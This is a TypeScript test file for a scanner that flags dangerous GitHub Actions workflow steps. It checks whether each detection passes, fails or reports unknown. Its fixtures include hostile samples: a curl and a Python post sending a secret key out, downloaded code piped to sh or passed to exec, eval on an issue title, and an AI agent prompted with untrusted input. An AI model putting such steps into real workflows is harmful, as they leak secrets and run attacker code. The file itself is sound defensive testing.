import { expect, test } from 'vitest';
import { scanWorkflows } from './repository.ts';

const ENV = { TITLE: 'github.event.issue.title', BODY: 'github.event.issue.body', KEY: 'secrets.KEY' };

/** A step behind the checkout of a pull request. */
function scanStep(script: string, shell?: string, job: { on?: string; more?: string; env?: boolean } = {}) {
  const lines = script.split('\n').map((line) => `          ${line}`);
  const env = Object.entries(ENV).map(([name, value]) => `          ${name}: \${{ ${value} }}`);
  const text = `on: ${job.on ?? '[issues, pull_request_target]'}
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
${job.more ?? ''}    steps:
      - name: Script
${job.env === false ? '' : `        env:\n${env.join('\n')}\n`}${shell === undefined ? '' : `        shell: ${shell}\n`}        run: |
${lines.join('\n')}
`;
  return scanWorkflows({ files: [{ path: '.github/workflows/ci.yml', text }] });
}

async function verdictOf(check: string, ...step: Parameters<typeof scanStep>) {
  const { coverage } = await scanStep(...step);
  return coverage.find((one) => one.check === `workflow/${check}`);
}

const REPARSED = 'dangerous/reparsed-variable';
const EXFILTRATION = 'secrets/exfiltration';
const LOGS = 'secrets/in-logs';
const RUNNER = 'dangerous/github-env';
const UNVERIFIED = 'dangerous/unverified-script';
const DEFAULT = '    defaults: { run: { shell: python } }\n';

test.each<[string, string, ...Parameters<typeof scanStep>]>([
  ['bash with an open `if`', REPARSED, 'if true; then\neval "make"\necho "$TITLE"', 'bash'],
  ['bash with an open quote', REPARSED, 'echo "$TITLE'],
  ['a faulty script that a shell is given', REPARSED, `bash -c 'if true; then echo' "$TITLE"`],
  ['PowerShell with a block', REPARSED, 'if ($env:TITLE -eq "a") { Invoke-Expression $env:TITLE }', 'pwsh'],
  [
    'a program by the default of the job',
    REPARSED,
    'import os\nprint(os.environ["TITLE"])',
    undefined,
    { more: DEFAULT },
  ],
  [
    'a program in Python that sends',
    EXFILTRATION,
    'import os, requests\nrequests.post(u, os.environ["KEY"])',
    'python',
  ],
  ['faulty bash that sends', EXFILTRATION, 'if true; then\ncurl -d "$KEY" "$HOST"', 'bash'],
  ['a program in Python that prints', LOGS, 'import os\nprint(os.environ["KEY"])', 'python {0}'],
  ['a batch script that prints', LOGS, 'echo %KEY%', 'cmd'],
  [
    'a program that writes variables',
    RUNNER,
    'import os\nopen(os.environ["GITHUB_ENV"], "a").write(os.environ["BODY"])',
    'python',
  ],
  [
    'a program that runs what it downloads',
    UNVERIFIED,
    'import requests\nexec(requests.get("https://get.example/a.py").text)',
    'python',
  ],
])('a check does not pass on a script that it cannot follow: %s', async (_, check, ...step) => {
  expect(await verdictOf(check, ...step)).toMatchObject({
    verdict: 'unknown',
    reason: expect.stringMatching(/^The script in \.github\/workflows\/ci\.yml at line \d+: .* left out$/),
  });
});

test.each<[string, string, 'pass' | 'fail', ...Parameters<typeof scanStep>]>([
  ['a batch script', REPARSED, 'fail', 'echo %TITLE%', 'cmd'],
  ['a program in Python', REPARSED, 'fail', 'import os\nos.system("echo " + os.environ["TITLE"])', 'python'],
  ['sound bash', REPARSED, 'pass', 'if true; then\necho "$TITLE"\nfi', '/usr/bin/bash -e {0}'],
  ['a program that names no variable that others set', REPARSED, 'pass', 'import os\nprint(os.getcwd())', 'python'],
  [
    'a program that only maintainers start',
    REPARSED,
    'pass',
    'import os\nprint(os.environ["TITLE"])',
    'python',
    { on: 'push' },
  ],
  ['faulty bash without variables', REPARSED, 'pass', 'if true; then\nmake', 'bash', { env: false }],
  ['PowerShell that the parser follows', REPARSED, 'pass', 'Write-Output "$env:TITLE"', 'pwsh'],
  ['what is found in faulty bash', REPARSED, 'fail', 'eval "$TITLE"\nif true; then\nmake', 'bash'],
  [
    'a program without a secret',
    EXFILTRATION,
    'pass',
    'import requests\nrequests.get("https://api.example")',
    'python',
  ],
  ['a program that does not print', LOGS, 'pass', 'import os\nkey = os.environ["KEY"]', 'python'],
  [
    'a program that downloads data',
    UNVERIFIED,
    'pass',
    'import requests\nrequests.get("https://api.example/a.json")',
    'python',
  ],
  [
    'a program that gives a download to a shell',
    UNVERIFIED,
    'fail',
    'import os\nos.system("curl https://get.example/a | sh")',
    'python',
  ],
])('a script that can be judged by what is read is judged: %s', async (_, check, verdict, ...step) => {
  expect(await verdictOf(check, ...step)).toMatchObject({ verdict });
});

const CHECKOUT = 'dangerous/untrusted-checkout';
const behindCheckout = (step: string) => `on: pull_request_target
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v6
        with: { ref: "\${{ github.event.pull_request.head.sha }}", persist-credentials: false }
      - ${step}
`;

test.each([
  ['a program may run it', '{ shell: python, run: import subprocess }', expect.stringContaining('left out')],
  ['faulty bash may run it', '{ shell: bash, run: "if true; then" }', expect.stringContaining('left out')],
  ['a command does not run it', '{ shell: bash, run: cat README.md }', null],
])(
  'the checkout of a pull request is found, and what was not followed behind it is reported: %s',
  async (_, step, reason) => {
    const { coverage } = await scanWorkflows({
      files: [{ path: '.github/workflows/ci.yml', text: behindCheckout(step) }],
    });
    expect(coverage.find(({ check }) => check === `workflow/${CHECKOUT}`)).toMatchObject({ verdict: 'fail', reason });
  },
);

const LONG = 'x'.repeat(5000);

test.each<[string, string, string]>([
  ['the end of a line that prints', LOGS, `: ${LONG}; echo "$KEY"`],
  ['the end of a line that downloads', UNVERIFIED, `: ${LONG}; curl https://get.example/a | sh`],
  ['a line that may start an agent', 'agents/open-agent', `: ${LONG}; claude -p "$TITLE"`],
])('no check passes on what is behind the limits of a text: %s', async (_, check, script) => {
  expect(await verdictOf(check, script)).toMatchObject({
    verdict: 'unknown',
    reason: expect.stringContaining('left out'),
  });
});

test.each([
  ['a long block', `{\n${'echo "A=$TITLE"\n'.repeat(300)}echo "B=$BODY"\n} >> "$GITHUB_ENV"`],
  ['a long line', `: ${LONG}; echo "A=$BODY" >> "$GITHUB_ENV"`],
])('a script is followed to its end: %s', async (_, script) => {
  expect(await verdictOf(RUNNER, script)).toMatchObject({ verdict: 'fail', reason: null });
});

test('a value of many lines is followed to its delimiter', async () => {
  const script = `{\n  echo "A<<END"\n${'  echo a\n'.repeat(40)}  echo "$BODY"\n  echo END\n} >> "$GITHUB_ENV"`;
  expect(await verdictOf(RUNNER, script)).toMatchObject({ verdict: 'fail', reason: null });
});
